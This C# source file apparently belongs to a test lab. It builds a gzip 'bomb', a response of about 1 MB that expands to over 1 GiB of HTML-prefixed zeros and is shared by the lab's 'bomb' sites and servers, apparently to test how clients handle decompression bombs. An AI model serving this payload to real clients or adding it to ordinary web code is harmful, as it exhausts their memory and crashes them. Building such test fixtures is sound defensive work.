using System.IO.Compression;
using System.Text;

namespace Appliance.Lab;

/// <summary>
/// A gzip body that inflates to just over 1 GiB: the start of an HTML page and then zeros.
/// Deflate stores a long run of zeros at about 1,000:1, so this is about 1 MB on the wire. Built
/// once, on first use (it takes seconds of CPU), and shared by every bomb site and server.
/// </summary>
internal static class LabGzipBomb
{
    public const long InflatedBytes = (1L << 30) + 4096;

    private static readonly Lazy<byte[]> Compressed = new(Build, LazyThreadSafetyMode.ExecutionAndPublication);

    public static byte[] Bytes => Compressed.Value;

    private static byte[] Build()
    {
        using var output = new MemoryStream(1 << 21);
        using (var gzip = new GZipStream(output, CompressionLevel.Optimal, leaveOpen: true))
        {
            var head = Encoding.ASCII.GetBytes("<!DOCTYPE html><html><head><title>Loading</title></head><body>");
            gzip.Write(head);
            var zeros = new byte[1 << 20];
            for (long written = head.Length; written < InflatedBytes; written += zeros.Length)
            {
                gzip.Write(zeros);
            }
        }

        return output.ToArray();
    }
}
